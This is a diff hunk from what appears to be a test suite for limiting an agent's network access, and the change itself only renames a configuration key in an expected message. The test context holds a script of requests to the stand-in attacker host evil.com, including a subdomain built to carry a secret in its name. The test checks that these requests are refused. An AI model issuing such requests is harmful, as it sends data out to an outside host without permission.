@@ -90,7 +90,7 @@ describe.skipIf(!canLimit)("an agent whose network is limited", () => {
     const script = `get http://127.0.0.1:${port}/; get http://evil.com/path; get http://evil.com/; get http://s3cret-in-a-name.evil.com/`;
     expect(await run(script)).toEqual({ kind: "exited", code: 0 });
     limit.tellRefusals();
-    const key = "jobs.agent.network in .github/workstreams.yml";
+    const key = "jobs.agent.network in the configuration";
     const lines = log().split("\n");
     expect(lines).toContain("the answer");
     expect(lines.filter((line) => line.startsWith("workstreams: "))).toEqual([
